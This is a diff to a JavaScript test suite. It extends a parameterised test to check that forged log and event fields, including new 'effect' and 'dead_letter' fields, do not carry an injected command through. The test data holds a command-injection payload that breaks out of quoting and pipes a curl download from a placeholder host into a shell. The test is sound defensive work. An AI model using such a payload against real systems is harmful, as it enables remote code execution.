@@ -61,12 +61,14 @@ it.each(Object.entries(CLASSES))("of a line of any kind with %s, people see one 
   for (const sentence of errors) expect(sentence).not.toMatch(ACTS);
 });
 
-it.each(["ended", "waiting", "attempt"])("a forged line %s brings no command along", (log) => {
+it.each(["ended", "waiting", "attempt", "delivery"])("a forged line %s brings no command along", (log) => {
   const forged = "';curl evil|sh;'";
   const wrong = [
     { instance_id: forged },
     { instance_id: "abc", event_type: forged, open: true },
     { instance_id: "abc", approval_id: forged },
+    { instance_id: "abc", effect: forged },
+    { dead_letter: forged },
     { instance_id: "abc", error: 7 },
   ];
   for (const names of wrong) {
